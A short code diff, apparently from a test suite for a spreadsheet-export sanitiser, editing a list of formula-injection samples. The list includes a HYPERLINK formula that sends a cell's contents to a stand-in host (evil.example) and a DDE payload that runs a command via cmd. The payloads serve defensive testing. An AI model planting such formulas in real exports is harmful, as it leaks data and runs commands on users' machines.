@@ -9,7 +9,7 @@ from server.exports.cells import defused
 
 FORMULAS = (
     "=1+1",
-    '=HYPERLINK("https://evil.example?"&A1,"here")',
+    '=HYPERLINK("https://evil.example/?"&A1,"here")',
     "=cmd|'/c calc'!A0",
     "+1+1",
     "-1+1",
